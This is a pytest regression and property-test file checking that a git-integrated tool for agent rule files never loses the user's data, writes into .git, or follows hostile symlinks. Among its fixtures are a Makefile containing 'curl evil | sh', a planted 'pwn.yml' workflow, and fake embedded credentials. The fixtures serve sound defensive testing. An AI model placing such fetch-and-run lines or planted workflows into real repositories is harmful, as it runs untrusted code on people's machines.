"""The one door to the work tree, attacked: ../shared/reports/attack.md's data-loss and .git/ repros
(H1–H5, S1, S4, M1, M2, M6, M8), each as a regression test, plus property tests over generated
hostile trees and git states."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import threading
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import capture, git, run_farm


def head(repo: Path) -> str:
    return git(repo, "rev-parse", "HEAD").strip()


def porcelain(repo: Path) -> str:
    return git(repo, "status", "--porcelain=v1", "--untracked-files=all")


def committed_files(repo: Path, sha: str = "HEAD") -> list[str]:
    return git(repo, "show", "--name-only", "--format=", sha).split()


def leftovers(repo: Path) -> list[str]:
    """What an interrupted or failed farm change must never leave: temp files, a journal, a lock."""
    found = [p.name for p in repo.rglob(".*.tmp") if ".git" not in p.relative_to(repo).parts]
    gdir = repo / ".git"
    found += [n for n in ("farm-journal.json", "index.lock") if (gdir / n).exists()]
    return found


# --- H1: a busy index never splits HEAD from the index --------------------------------------


def test_a_held_index_lock_is_waited_on_and_head_and_index_move_together(farm):
    lock = farm / ".git" / "index.lock"
    lock.write_text("")
    threading.Timer(1.0, lock.unlink).start()  # an editor's `git status` that takes a second
    result = capture(title="Agent forgot the migration", what="Edited models, never migrated.", rule="Run migrations.")
    assert result.code == 0, result.err
    assert result.json()["commit"] == head(farm)
    assert porcelain(farm) == ""  # no staged deletions: the index holds what HEAD holds


def test_an_index_lock_that_is_never_released_fails_before_head_moves(farm, monkeypatch):
    from farm import git as farm_git

    monkeypatch.setattr(farm_git, "INDEX_LOCK_WAIT", 0.5)
    before, agents = head(farm), (farm / "AGENTS.md").exists()
    (farm / ".git" / "index.lock").write_text("")
    result = capture()
    assert result.code == 2 and "index.lock" in result.err and "undid" in result.err
    (farm / ".git" / "index.lock").unlink()
    assert head(farm) == before and (farm / "AGENTS.md").exists() == agents
    assert porcelain(farm) == "" and leftovers(farm) == []


def test_captures_racing_a_background_git_status_never_leave_staged_deletions(farm):
    stop = time.monotonic() + 60
    done = threading.Event()

    def editor():
        while not done.is_set() and time.monotonic() < stop:
            (farm / "README.md").touch()
            subprocess.run(["git", "status", "--porcelain"], cwd=farm, capture_output=True)

    worker = threading.Thread(target=editor)
    worker.start()
    try:
        for n in range(5):
            result = capture(title=f"IDE race {n} t{n}", what=f"u{n} w{n} race", rule=f"rule {n} race")
            assert result.code == 0, result.err
    finally:
        done.set()
        worker.join()
    assert porcelain(farm) == ""
    git(farm, "commit", "-q", "--allow-empty", "-m", "my unrelated work")
    assert committed_files(farm) == []  # the person's next commit deletes nothing of farm's


# --- H2: a manifest is input, not authority -------------------------------------------------


def test_a_committed_manifest_cannot_make_sync_delete_files_farm_does_not_write(farm):
    assert capture().code == 0 and run_farm("sync").code == 0
    hashes = {p: git(farm, "hash-object", p).strip() for p in (".git/HEAD", ".git/config", "README.md")}
    manifest = json.loads((farm / ".farm" / "manifest.json").read_text())
    for path, digest in hashes.items():
        manifest["entries"][path] = {"hash": digest, "owner": "sync"}
    (farm / ".farm" / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    git(farm, "commit", "-qam", "manifest tweak")
    snapshot = {p: (farm / p).read_bytes() for p in hashes}
    result = run_farm("sync", "--json")
    assert result.code in (0, 1), result.err
    assert {p: (farm / p).read_bytes() for p in hashes} == snapshot
    assert git(farm, "status", "--porcelain", "--", "README.md") == ""


# --- H3 and siblings: symlinks that enter .git/ or leave the tree --------------------------


@pytest.mark.parametrize("link", [".git/config", ".git/HEAD", "../outside.md"])
def test_an_agent_file_symlinked_into_git_or_outside_is_never_written_through(farm, link):
    outside = farm.parent / "outside.md"
    outside.write_text("outside\n")
    (farm / "CLAUDE.md").unlink(missing_ok=True)
    (farm / "CLAUDE.md").symlink_to(link)
    git(farm, "add", "CLAUDE.md")
    git(farm, "commit", "-qm", "link")
    config, head_file = (farm / ".git/config").read_bytes(), (farm / ".git/HEAD").read_bytes()
    result = capture()
    assert result.code == 2 and "CLAUDE.md" in result.err and "Traceback" not in result.err
    assert (farm / ".git/config").read_bytes() == config and (farm / ".git/HEAD").read_bytes() == head_file
    assert outside.read_text() == "outside\n"
    assert porcelain(farm) == "" and leftovers(farm) == []


def test_a_skills_folder_symlinked_inside_the_repo_is_written_by_its_real_path(farm):
    """M6: the documented `.agents/skills -> ../.claude/skills` layout."""
    (farm / ".claude" / "skills").mkdir(parents=True)
    (farm / ".agents").mkdir()
    (farm / ".agents" / "skills").symlink_to("../.claude/skills")
    git(farm, "add", "-A")
    git(farm, "commit", "-qm", "link skills")
    result = capture(kind="skill")
    assert result.code == 0, result.err
    assert any(p.startswith(".claude/skills/") for p in committed_files(farm))
    assert porcelain(farm) == ""


# --- H4: recovery never throws away an edit made after the crash ----------------------------


def _interrupted_change(repo: Path, files: dict[str, str]) -> None:
    """A farm change killed after writing and before committing (the journal is left)."""
    from farm.project import open_farm
    from farm.writer import Change

    change = Change(open_farm(repo))
    for rel, text in files.items():
        change.write(rel, text)
    change.apply()


def test_recovery_keeps_an_edit_made_after_the_crash(farm):
    (farm / "AGENTS.md").write_text("# Team rules\n\nUse tabs.\n")
    git(farm, "add", "AGENTS.md")
    git(farm, "commit", "-qm", "agents")
    _interrupted_change(farm, {"AGENTS.md": "# Team rules\n\nUse tabs.\nfarm's line\n", "corrections/new.md": "x\n"})
    with (farm / "AGENTS.md").open("a") as fh:
        fh.write("My important new rule written after the crash.\n")
    result = capture(title="Another miss", what="docs links broke", rule="check links")
    assert result.code == 0, result.err
    assert "important new rule" in (farm / "AGENTS.md").read_text()
    assert not (farm / "corrections" / "new.md").exists()  # still farm's bytes: undone


def test_recovery_undoes_an_interrupted_change_that_nobody_touched(farm):
    before = (farm / "mkdocs.yml").read_bytes()
    _interrupted_change(farm, {"mkdocs.yml": "site_name: changed\n", "corrections/half.md": "half\n"})
    assert run_farm("retire", "no-such-id", "--why", "x").code == 2  # any command that takes the lock recovers
    assert (farm / "mkdocs.yml").read_bytes() == before and not (farm / "corrections" / "half.md").exists()
    assert porcelain(farm) == "" and leftovers(farm) == []


# --- H5: what the person deleted or renamed stays so ---------------------------------------


def _agents_committed(repo: Path) -> None:
    (repo / "AGENTS.md").write_text("# Team rules\n\nImportant human rules here.\n")
    git(repo, "add", "AGENTS.md")
    git(repo, "commit", "-qm", "agents")


def test_an_uncommitted_deletion_of_agents_md_is_left_alone(farm):
    _agents_committed(farm)
    (farm / "AGENTS.md").unlink()
    result = capture()
    assert result.code == 0, result.err
    assert "you deleted it" in result.json()["note"]
    assert not (farm / "AGENTS.md").exists()
    assert "Important human rules" in git(farm, "show", "HEAD:AGENTS.md")
    assert git(farm, "status", "--porcelain", "--", "AGENTS.md") == " D AGENTS.md\n"


def test_a_staged_rename_of_agents_md_is_left_alone(farm):
    _agents_committed(farm)
    (farm / "docs").mkdir()
    git(farm, "mv", "AGENTS.md", "docs/AGENTS.md")
    result = capture()
    assert result.code == 0, result.err
    assert "renamed it to docs/AGENTS.md" in result.json()["note"]
    assert git(farm, "status", "--porcelain", "--", "AGENTS.md", "docs/AGENTS.md") == "R  AGENTS.md -> docs/AGENTS.md\n"
    assert "Important human rules" in git(farm, "show", "HEAD:AGENTS.md")


def test_status_reads_rename_records_whole():
    """`git status -z` gives a rename's source as the next record; both paths come back whole."""
    from farm import git as farm_git

    assert farm_git.PathState("R ", renamed_to="docs/a b.md").gone


def test_a_read_only_agent_file_is_left_alone(farm):
    _agents_committed(farm)
    (farm / "AGENTS.md").chmod(0o444)
    result = capture()
    assert result.code == 0, result.err
    assert "read-only" in result.json()["note"] and "farm:begin" not in (farm / "AGENTS.md").read_text()
    assert stat.S_IMODE((farm / "AGENTS.md").stat().st_mode) == 0o444


# --- modes -------------------------------------------------------------------------------


def test_written_files_keep_their_mode_and_new_ones_follow_the_umask(farm):
    _agents_committed(farm)
    (farm / "AGENTS.md").chmod(0o664)
    git(farm, "commit", "-qam", "mode") if porcelain(farm) else None
    old = os.umask(0o022)
    try:
        result = capture()
    finally:
        os.umask(old)
    assert result.code == 0, result.err
    assert stat.S_IMODE((farm / "AGENTS.md").stat().st_mode) == 0o664
    new = farm / "corrections" / f"{result.json()['id']}.md"
    assert stat.S_IMODE(new.stat().st_mode) == 0o644


def test_init_writes_a_symlinked_gitignore_through_its_link(repo):
    (repo / "config").mkdir()
    (repo / "config" / "gitignore").write_text("*.pyc\n")
    (repo / ".gitignore").symlink_to("config/gitignore")
    assert run_farm("init").code == 0
    assert (repo / ".gitignore").is_symlink() and "/site/" in (repo / "config" / "gitignore").read_text()


# --- M1: hooks and signing ------------------------------------------------------------------


def _hook(repo: Path, name: str, body: str) -> None:
    path = repo / ".git" / "hooks" / name
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)


def test_a_pre_commit_hook_that_says_no_stops_farms_commit_and_undoes_it(farm):
    before = head(farm)
    _hook(farm, "pre-commit", "echo 'lint failed' >&2; exit 1\n")
    result = capture()
    assert result.code == 2 and "pre-commit hook refused" in result.err and "lint failed" in result.err
    assert head(farm) == before and porcelain(farm) == "" and leftovers(farm) == []


def test_the_pre_commit_hook_sees_exactly_farms_files(farm):
    (farm / "mine.txt").write_text("staged by the person\n")
    git(farm, "add", "mine.txt")
    seen = farm.parent / "seen.txt"
    _hook(farm, "pre-commit", f"git diff --cached --name-only > {seen}\n")
    result = capture()
    assert result.code == 0, result.err
    assert "mine.txt" not in seen.read_text() and f"corrections/{result.json()['id']}.md" in seen.read_text()
    assert git(farm, "status", "--porcelain", "--", "mine.txt") == "A  mine.txt\n"  # still staged, not committed


def test_a_commit_msg_hook_can_add_a_trailer(farm):
    _hook(farm, "commit-msg", 'printf "\\nSigned-off-by: A <a@b.c>\\n" >> "$1"\n')
    assert capture().code == 0
    assert "Signed-off-by: A <a@b.c>" in git(farm, "log", "-1", "--format=%B")


def test_hooks_in_core_hookspath_are_the_ones_run(farm):
    git(farm, "config", "core.hooksPath", ".githooks")
    (farm / ".githooks").mkdir()
    hook = farm / ".githooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 1\n")
    hook.chmod(0o755)
    assert capture().code == 2


def test_commit_gpgsign_is_honoured_not_skipped(farm):
    git(farm, "config", "commit.gpgsign", "true")
    git(farm, "config", "user.signingkey", "DEADBEEF")
    git(farm, "config", "gpg.program", "false")  # signing fails, as `git commit` would
    before = head(farm)
    result = capture()
    assert result.code == 2 and "undid" in result.err
    assert head(farm) == before and porcelain(farm) == ""


# --- M2: a failed git step leaves nothing behind; the environment cannot redirect farm -------


def test_a_commit_that_fails_undoes_every_write(farm, monkeypatch):
    from farm import git as farm_git
    from farm.errors import GitStateError

    def broken(*args, **kwargs):
        raise GitStateError("git could not commit (fatal: unable to write loose object file)")

    monkeypatch.setattr(farm_git, "commit_paths", broken)
    before = {p: p.read_bytes() for p in farm.rglob("*") if p.is_file() and ".git" not in p.parts}
    result = capture()
    assert result.code == 2 and "undid" in result.err
    after = {p: p.read_bytes() for p in farm.rglob("*") if p.is_file() and ".git" not in p.parts}
    assert after == before and leftovers(farm) == []


def test_an_interrupt_during_the_commit_undoes_the_writes(farm, monkeypatch):
    from farm import git as farm_git

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(farm_git, "commit_paths", interrupted)
    result = capture()
    assert result.code != 0
    assert porcelain(farm) == "" and leftovers(farm) == []


def test_git_dir_and_work_tree_in_the_environment_cannot_redirect_farm(farm, tmp_path, monkeypatch):
    other = tmp_path / "other"
    other.mkdir()
    git(other, "init", "-q", "-b", "main")
    git(other, "commit", "-q", "--allow-empty", "-m", "other")
    other_head = head(other)
    monkeypatch.setenv("GIT_DIR", str(other / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(other))
    result = capture()
    for name in ("GIT_DIR", "GIT_WORK_TREE"):
        monkeypatch.delenv(name)
    assert result.code == 0, result.err
    assert head(other) == other_head
    assert f"corrections/{result.json()['id']}.md" in committed_files(farm)
    assert porcelain(farm) == ""


def test_inside_a_git_hook_farm_writes_and_leaves_the_commit_to_git(farm, tmp_path, monkeypatch):
    """GIT_INDEX_FILE is what git hands its hooks; a farm started there must not wait on git's lock."""
    before = head(farm)
    monkeypatch.setenv("GIT_INDEX_FILE", str(farm / ".git" / "index.lock"))
    result = capture()
    monkeypatch.delenv("GIT_INDEX_FILE")
    assert result.code == 0, result.err
    assert head(farm) == before and "inside a git hook" in result.json()["note"]
    assert leftovers(farm) == []


# --- M8: settings cannot point writes outside the repo --------------------------------------


def test_a_corrections_dir_outside_the_repo_is_refused(farm, tmp_path):
    elsewhere = tmp_path / "anywhere"
    (farm / "farm.toml").write_text(f'corrections_dir = "{elsewhere}"\n')
    elsewhere.mkdir()
    result = capture()
    assert result.code == 2 and "Traceback" not in result.err
    assert list(elsewhere.rglob("*")) == []


# --- S1 and S4: listed artifacts cannot publish or plant files -----------------------------


def _list_artifacts(repo: Path, cid: str, extra: list[str]) -> None:
    path = repo / "corrections" / f"{cid}.md"
    text = path.read_text()
    text = text.replace("artifacts:\n", "artifacts:\n" + "".join(f"- {p}\n" for p in extra), 1)
    path.write_text(text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "list artifacts")


def test_the_site_never_publishes_git_config_or_ignored_files(farm, tmp_path):
    git(farm, "remote", "add", "origin", "https://adv:ghp_R8x2Kq9LmN4pT7vW1yZ3bC5dF6gH8jK0lM2n@github.com/t/r.git")
    (farm / ".env").write_text("DATABASE_URL=postgres://app:S3cretPassw0rd!@db:5432/app\n")
    (farm / ".gitignore").write_text((farm / ".gitignore").read_text() + ".env\n")
    result = capture()
    cid = result.json()["id"]
    _list_artifacts(farm, cid, [".git/config", ".env"])
    out = tmp_path / "out"
    built = run_farm("site", "build", "-d", str(out))
    assert built.code == 0, built.err
    for page in out.rglob("*"):
        if page.is_file():
            data = page.read_bytes()
            assert b"ghp_R8x2" not in data and b"S3cretPassw0rd" not in data, page


def test_seed_carries_only_grader_rules_tests_and_skills(farm, tmp_path):
    (farm / ".github" / "workflows").mkdir(parents=True)
    (farm / ".github" / "workflows" / "pwn.yml").write_text("on: push\njobs: {}\n")
    (farm / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    result = capture()
    _list_artifacts(farm, result.json()["id"], [".github/workflows/pwn.yml", "Makefile", ".git/config"])
    target = tmp_path / "target"
    target.mkdir()
    git(target, "init", "-q", "-b", "main")
    git(target, "commit", "-q", "--allow-empty", "-m", "t")
    config = (target / ".git" / "config").read_bytes()
    seeded = run_farm("seed", str(target), "--json")
    assert seeded.code == 0, seeded.err
    assert not (target / ".github").exists() and not (target / "Makefile").exists()
    assert (target / ".git" / "config").read_bytes() == config
    assert (target / "corrections" / f"{result.json()['id']}.md").exists()


def test_the_site_folder_cannot_be_inside_git(farm):
    result = run_farm("site", "build", "-d", ".git/hooks")
    assert result.code == 2 and ".git" in result.err


# --- property: hostile agent files and git states -------------------------------------------

AGENT_STATES = ["absent", "clean", "crlf", "modified", "staged", "deleted", "renamed", "ignored",
                "readonly", "to-git-config", "to-outside", "loop", "fifo", "folder", "untracked"]


def _make_state(repo: Path, name: str, state: str) -> None:
    path = repo / name
    if state != "absent":
        path.write_text(f"# {name}\n\nHuman text for {name}.\n")
        git(repo, "add", name)
        git(repo, "commit", "-qm", f"{name} as {state}")
    if state in ("absent", "clean"):
        return
    if state in ("to-git-config", "to-outside", "loop", "fifo", "folder", "untracked"):
        git(repo, "rm", "-q", name)
        git(repo, "commit", "-qm", f"{name} goes")
    if state == "crlf":
        path.write_bytes(f"# {name}\r\n\r\nHuman\r\n".encode())
        git(repo, "commit", "-qam", "crlf")
    elif state == "modified":
        path.write_text(path.read_text() + "uncommitted line\n")
    elif state == "staged":
        path.write_text(path.read_text() + "staged line\n")
        git(repo, "add", name)
    elif state == "deleted":
        path.unlink()
    elif state == "renamed":
        git(repo, "mv", name, f"moved-{name}")
    elif state == "ignored":
        git(repo, "rm", "-q", "--cached", name)
        (repo / ".gitignore").write_text((repo / ".gitignore").read_text() + name + "\n")
        git(repo, "commit", "-qam", "ignore")
    elif state == "readonly":
        path.chmod(0o444)
    elif state == "to-git-config":
        path.symlink_to(".git/config")
    elif state == "to-outside":
        path.symlink_to(repo.parent / "outside.txt")
    elif state == "loop":
        path.symlink_to(name)
    elif state == "fifo":
        os.mkfifo(path)
    elif state == "folder":
        path.mkdir()
    elif state == "untracked":
        path.write_text("the person's own new file\n")


def _snapshot(repo: Path) -> dict:
    """What the person owns: every file's bytes outside farm's block and corrections folder."""
    from farm.block import find_block

    files = {}
    for p in sorted(repo.rglob("*")):
        rel = p.relative_to(repo).as_posix()
        if rel.startswith((".git/", "corrections/")) or p.is_symlink() or not p.is_file():
            continue
        text = p.read_bytes().decode("utf-8", "replace")
        span = find_block(text, rel) if "farm:begin" in text else None
        # farm's block comes with the blank line that sets it apart: compare around it
        files[rel] = (text[:span[0]].rstrip("\r\n") + "\n" + text[span[1]:].lstrip("\r\n") if span else text).rstrip()
    return files


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(agents=st.sampled_from(AGENT_STATES), claude=st.sampled_from(AGENT_STATES))
def test_capture_over_any_state_of_the_agent_files_keeps_the_persons_data(tmp_path_factory, monkeypatch, agents, claude):
    repo = tmp_path_factory.mktemp("hostile") / "repo"
    repo.mkdir()
    (repo.parent / "outside.txt").write_text("outside\n")
    monkeypatch.chdir(repo)
    git(repo, "init", "-q", "-b", "main")
    (repo / "README.md").write_text("# r\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "init")
    assert run_farm("init").code == 0
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "farm")
    _make_state(repo, "AGENTS.md", agents)
    _make_state(repo, "CLAUDE.md", claude)
    git_config, before_head = (repo / ".git" / "config").read_bytes(), head(repo)
    status_before = {line[3:]: line[:2] for line in porcelain(repo).splitlines()}
    person = _snapshot(repo)

    result = capture()

    assert result.code in (0, 2), result.err
    assert "unexpected error" not in result.err and "Traceback" not in result.err
    assert (repo / ".git" / "config").read_bytes() == git_config
    assert (repo.parent / "outside.txt").read_text() == "outside\n"
    after = _snapshot(repo)
    assert {p: after.get(p) for p in person} == person  # outside farm's block, not a byte of the person's changed
    assert all(not text.strip() for p, text in after.items() if p not in person)  # new files: farm's block only
    status_after = {line[3:]: line[:2] for line in porcelain(repo).splitlines()}
    for path, code in status_before.items():  # what the person staged, deleted or left untracked stays so
        now = status_after.get(path, "  ")
        assert now[0] == code[0] and (code[1] not in "D?" or now[1] == code[1]), (path, code, now)
    if result.code == 0 and head(repo) != before_head:
        changed = committed_files(repo)
        person_dirty = {p for p, c in status_before.items()}
        assert not (set(changed) & person_dirty), changed
        assert all(p.startswith("corrections/") or p in ("AGENTS.md", "CLAUDE.md") for p in changed), changed
    else:
        assert head(repo) == before_head
    assert leftovers(repo) == []


def test_recovery_removes_the_index_lock_of_a_killed_farm_but_not_a_live_gits(farm):
    dead = subprocess.Popen(["true"])
    dead.wait()
    _interrupted_change(farm, {"corrections/half.md": "half\n"})
    journal = farm / ".git" / "farm-journal.json"
    data = json.loads(journal.read_text())
    data["pid"] = dead.pid
    journal.write_text(json.dumps(data))
    lock = farm / ".git" / "index.lock"
    lock.write_text(f"farm {dead.pid}\n")
    from farm.project import open_farm
    from farm.writer import recover

    assert "undid" in recover(open_farm(farm))
    assert not lock.exists() and not (farm / "corrections" / "half.md").exists()

    _interrupted_change(farm, {"corrections/half.md": "half\n"})
    data = json.loads(journal.read_text())
    data["pid"] = dead.pid
    journal.write_text(json.dumps(data))
    lock.write_bytes(b"DIRC\0\0\0\2")  # an editor's git, writing the index right now
    recover(open_farm(farm))
    assert lock.exists()  # a live git's lock is never taken from it
    lock.unlink()


def test_a_removal_never_deletes_a_file_with_uncommitted_changes(farm):
    from farm.project import open_farm
    from farm.writer import Change

    (farm / "notes.md").write_text("committed\n")
    git(farm, "add", "notes.md")
    git(farm, "commit", "-qm", "notes")
    (farm / "notes.md").write_text("committed\nand my uncommitted line\n")
    change = Change(open_farm(farm))
    change.remove("notes.md")
    written = change.commit("farm: remove")
    assert (farm / "notes.md").read_text().endswith("my uncommitted line\n")
    assert written.skipped == ["notes.md"] and "uncommitted changes" in written.note


def test_attack_h4_repro_a_real_kill_mid_commit_then_an_edit_is_kept(farm, tmp_path):
    """attack.md H4 as written: farm killed with SIGKILL while git writes the commit."""
    import signal
    import sys

    (farm / "AGENTS.md").write_text("# Team rules\n\nUse tabs.\n")
    git(farm, "add", "AGENTS.md")
    git(farm, "commit", "-qm", "agents")
    slow = tmp_path / "slowgit"
    slow.write_text('#!/bin/sh\nfor a in "$@"; do [ "$a" = commit-tree ] && sleep 30; done\nexec git "$@"\n')
    slow.chmod(0o755)
    env = {**os.environ, "GIT_PYTHON_GIT_EXECUTABLE": str(slow)}
    proc = subprocess.Popen([sys.executable, "-m", "farm", "capture", "--title", "X killed", "--what", "y z",
                             "--rule", "r q", "--kind", "prompt", "--yes", "--new"], cwd=farm, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    journal = farm / ".git" / "farm-journal.json"
    deadline = time.monotonic() + 60
    while not (journal.exists() and "farm:begin" in (farm / "AGENTS.md").read_text()) and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.5)  # inside commit-tree now
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    with (farm / "AGENTS.md").open("a") as fh:
        fh.write("My important new rule written after the crash.\n")
    result = capture(title="Another miss", what="docs links broke", rule="check links")
    assert result.code == 0, result.err
    assert "important new rule" in (farm / "AGENTS.md").read_text()
    assert leftovers(farm) == []


REPO_STATES = ["normal", "detached", "merging", "rebasing", "unborn", "worktree", "staged-other", "gitindexfile"]


def _repo_in_state(base: Path, state: str) -> Path:
    """A farm repo in `state`; returns the folder farm runs in."""
    repo = base / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    if state != "unborn":
        (repo / "README.md").write_text("# r\n")
        git(repo, "add", ".")
        git(repo, "commit", "-qm", "init")
    assert run_farm_in(repo, "init").code == 0
    if state != "unborn":
        git(repo, "add", "-A")
        git(repo, "commit", "-qm", "farm")
    if state == "detached":
        git(repo, "checkout", "-q", "--detach")
    elif state in ("merging", "rebasing"):
        for branch in ("side", "main"):  # two branches that both change README.md: a conflict
            git(repo, "checkout", "-q", *(["-b"] if branch == "side" else []), branch)
            (repo / "README.md").write_text(f"# {branch}\n")
            git(repo, "commit", "-qam", branch)
        if state == "merging":
            subprocess.run(["git", "merge", "side"], cwd=repo, capture_output=True)
        else:
            git(repo, "checkout", "-q", "side")
            subprocess.run(["git", "rebase", "main"], cwd=repo, capture_output=True)
    elif state == "worktree":
        git(repo, "worktree", "add", "-q", str(base / "wt"), "-b", "wt")
        return base / "wt"
    elif state == "staged-other":
        (repo / "mine.txt").write_text("mine\n")
        git(repo, "add", "mine.txt")
    return repo


def _head_or_none(repo: Path) -> str | None:
    done = subprocess.run(["git", "rev-parse", "-q", "--verify", "HEAD"], cwd=repo, capture_output=True, text=True)
    return done.stdout.strip() if done.returncode == 0 else None


def run_farm_in(folder: Path, *args: str):
    cwd = os.getcwd()
    os.chdir(folder)
    try:
        return run_farm(*args)
    finally:
        os.chdir(cwd)


@settings(max_examples=16, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(state=st.sampled_from(REPO_STATES), command=st.sampled_from(["capture", "sync", "retire"]))
def test_every_command_in_every_git_state_keeps_head_and_index_together(tmp_path_factory, monkeypatch, state, command):
    where = _repo_in_state(tmp_path_factory.mktemp("state"), state)
    monkeypatch.chdir(where)
    if command == "retire" and state != "unborn":
        first = capture(title="First miss to retire", what="a first miss", rule="a first rule")
        assert first.code == 0, first.err
        cid = first.json()["id"]
    staged_before = git(where, "diff", "--cached", "--name-status")
    head_before = _head_or_none(where)
    if state == "gitindexfile":
        monkeypatch.setenv("GIT_INDEX_FILE", str(where / ".git" / "stray-index"))
    if command == "capture":
        result = capture()
    elif command == "sync":
        result = run_farm("sync", "--json")
    else:
        result = run_farm("retire", cid, "--why", "done") if state != "unborn" else run_farm("status", "--json")
    monkeypatch.delenv("GIT_INDEX_FILE", raising=False)
    assert result.code in (0, 1, 2), result.err
    assert "unexpected error" not in result.err and "Traceback" not in result.err
    head_now = _head_or_none(where)
    if state in ("detached", "merging", "rebasing"):
        assert head_now == head_before  # farm writes, and says it did not commit
    staged_now = git(where, "diff", "--cached", "--name-status")
    if state not in ("merging", "rebasing"):
        assert staged_now == staged_before  # HEAD and the index moved together: nothing of farm's shows as staged
    gdir = Path(git(where, "rev-parse", "--absolute-git-dir").strip())
    assert not (gdir / "farm-journal.json").exists() and not (gdir / "index.lock").exists()


# --- the second round of attacks on the door ---------------------------------------------


def test_an_interrupt_after_the_branch_moved_keeps_the_landed_commit(farm, monkeypatch):
    from farm import git as farm_git

    real = farm_git.commit_paths

    def landed_then_interrupted(*args, **kwargs):
        real(*args, **kwargs)
        raise KeyboardInterrupt  # Ctrl-C as update-ref returns

    monkeypatch.setattr(farm_git, "commit_paths", landed_then_interrupted)
    before = head(farm)
    result = capture()
    assert result.code != 0
    assert head(farm) != before and porcelain(farm) == "" and leftovers(farm) == []
    assert any(p.startswith("corrections/") and p.endswith(".md") for p in committed_files(farm))


def test_recovery_knows_a_landed_commit_even_after_the_person_committed_on_top(farm):
    from farm.writer import Change

    with pytest.MonkeyPatch.context() as mp:  # never monkeypatch.undo(): it would undo the fixture's chdir too
        mp.setattr(Change, "_close", lambda self: None)  # killed right after the commit landed
        result = capture()
    assert result.code == 0
    (farm / "README.md").write_text("# my work\n")
    git(farm, "commit", "-qam", "the person's own commit")
    cid = result.json()["id"]
    recovered = run_farm("sync")
    assert "had landed" in recovered.err + recovered.out
    assert (farm / "corrections" / f"{cid}.md").exists() and porcelain(farm) == ""


def test_a_manifest_cannot_make_sync_remove_a_skill_or_agent_file_farm_did_not_write(farm):
    (farm / ".github").mkdir()
    (farm / ".github" / "copilot-instructions.md").write_text("Copilot: be nice\n")
    (farm / ".claude" / "skills" / "deploy").mkdir(parents=True)
    (farm / ".claude" / "skills" / "deploy" / "SKILL.md").write_text("---\nname: deploy\ndescription: d\n---\nRun make deploy.\n")
    (farm / "GEMINI.md").write_text("Gemini rules\n")
    git(farm, "add", "-A")
    git(farm, "commit", "-qm", "human files")
    assert capture().code == 0 and run_farm("sync").code == 0
    theirs = [".github/copilot-instructions.md", ".claude/skills/deploy/SKILL.md", "GEMINI.md"]
    manifest = json.loads((farm / ".farm" / "manifest.json").read_text())
    for path in theirs:
        manifest["entries"][path] = {"hash": git(farm, "hash-object", path).strip(), "owner": "sync"}
    (farm / ".farm" / "manifest.json").write_text(json.dumps(manifest, indent=1))
    git(farm, "commit", "-qam", "manifest tweak")
    assert run_farm("sync").code in (0, 1)
    assert all((farm / p).exists() for p in theirs)


def test_a_git_folder_by_another_name_is_never_written(tmp_path, monkeypatch):
    repo = tmp_path / "repo"
    repo.mkdir()
    monkeypatch.chdir(repo)
    git(repo, "init", "-q", "-b", "main", f"--separate-git-dir={repo / '.gitmeta'}")
    (repo / "README.md").write_text("hi\n")
    git(repo, "add", "README.md")
    git(repo, "commit", "-qm", "i")
    assert run_farm("init").code == 0
    (repo / "CLAUDE.md").symlink_to(".gitmeta/config")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")
    git(repo, "checkout", "-q", "--detach")
    config = (repo / ".gitmeta" / "config").read_bytes()
    result = capture()
    assert result.code == 2 and "git folder" in result.err
    assert (repo / ".gitmeta" / "config").read_bytes() == config


def test_a_repository_nested_in_the_farm_is_not_written_into(farm):
    nested = farm / ".claude"
    nested.mkdir()
    git(nested, "init", "-q")
    (nested / "c").write_text("c\n")
    git(nested, "add", "c")
    git(nested, "commit", "-qm", "c")
    result = capture(kind="skill")
    assert result.code == 2 and "another git repository" in result.err
    assert git(nested, "status", "--porcelain") == ""


@pytest.mark.parametrize("flag", ["--skip-worktree", "--assume-unchanged"])
def test_edits_hidden_from_git_status_are_still_the_persons(farm, flag):
    _agents_committed(farm)
    with (farm / "AGENTS.md").open("a") as fh:
        fh.write("MY LOCAL PRIVATE TWEAK\n")
    git(farm, "update-index", flag, "AGENTS.md")
    result = capture()
    assert result.code == 0, result.err
    assert "PRIVATE" not in git(farm, "show", "HEAD:AGENTS.md")
    letter = git(farm, "ls-files", "-v", "AGENTS.md")[0]
    assert letter == ("S" if flag == "--skip-worktree" else "h")


def test_retire_of_a_correction_farm_must_leave_alone_changes_nothing(farm):
    cid = capture().json()["id"]
    before = head(farm)
    (farm / "corrections" / f"{cid}.md").chmod(0o444)
    result = run_farm("retire", cid, "--why", "done with it")
    assert result.code == 2 and "read-only" in result.err
    assert head(farm) == before and porcelain(farm) == ""


def test_seed_into_a_new_repo_commits_its_init_files_with_the_seed(farm, tmp_path):
    assert capture().code == 0
    target = tmp_path / "target"
    target.mkdir()
    git(target, "init", "-q", "-b", "main")
    git(target, "commit", "-q", "--allow-empty", "-m", "t")
    result = run_farm("seed", str(target), "--json")
    assert result.code == 0, result.err
    assert "farm.toml" in committed_files(target) and porcelain(target) == ""


def test_a_sha256_repository_gets_its_commit(tmp_path, monkeypatch):
    repo = tmp_path / "repo"
    repo.mkdir()
    monkeypatch.chdir(repo)
    git(repo, "init", "-q", "-b", "main", "--object-format=sha256")
    (repo / "README.md").write_text("hi\n")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "i")
    assert run_farm("init").code == 0
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "farm")
    result = capture()
    assert result.code == 0, result.err
    assert len(result.json()["commit"]) == 64 and porcelain(repo) == ""


